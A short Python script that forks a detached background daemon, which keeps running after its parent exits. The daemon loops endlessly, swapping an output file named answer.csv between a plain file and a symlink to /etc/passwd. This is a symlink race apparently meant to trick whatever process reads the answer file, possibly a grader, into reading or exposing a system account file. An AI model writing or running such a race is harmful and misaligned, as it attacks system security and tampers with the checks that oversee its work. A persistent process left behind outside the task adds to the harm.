import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
        with open("/output/plain", "w") as sink:
            sink.write("id\n")
        os.replace("/output/plain", "/output/answer.csv")
        try:
            os.symlink("/etc/passwd", "/output/link")
            os.replace("/output/link", "/output/answer.csv")
        except OSError:
            pass
time.sleep(0.3)
